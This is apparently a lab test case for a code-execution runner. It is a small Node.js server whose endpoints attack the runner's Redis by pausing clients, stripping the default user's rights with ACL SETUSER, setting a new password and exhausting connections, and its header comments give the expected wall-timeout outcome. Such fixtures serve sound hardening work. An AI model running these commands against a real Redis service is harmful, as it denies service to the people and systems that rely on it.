// exploit: keeps the runner from asking its Redis: by a password, no rights, a pause, all connections taken
// kind: lab
// steps: GET /0 | GET /1 | wait 30 | GET /2 | wait 30 | GET /3
// outcome: finished wall-timeout
// sees: "status":200
// part: no
// job: {"services":["redis"],"listsKeys":true,"limits":{"wallMs":20000}}
const http = require('node:http')
const net = require('node:net')
const { createClient } = require('redis')

let client
const ways = {
  '/0': () => client.sendCommand(['CLIENT', 'PAUSE', '1500']),
  '/1': () => client.sendCommand(['ACL', 'SETUSER', 'default', '-eval', '-ping', '-quit']),
  '/2': () => client.sendCommand(['CONFIG', 'SET', 'requirepass', 'mine']),
  '/3': async () => {
    for (let index = 0; index < 120; index += 1) net.connect(6379, '127.0.0.1').on('error', () => {})
  },
}
http.createServer(async (req, res) => {
  client ??= await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  await ways[req.url]().catch(() => null)
  res.end('ok')
}).listen(process.env.PORT)
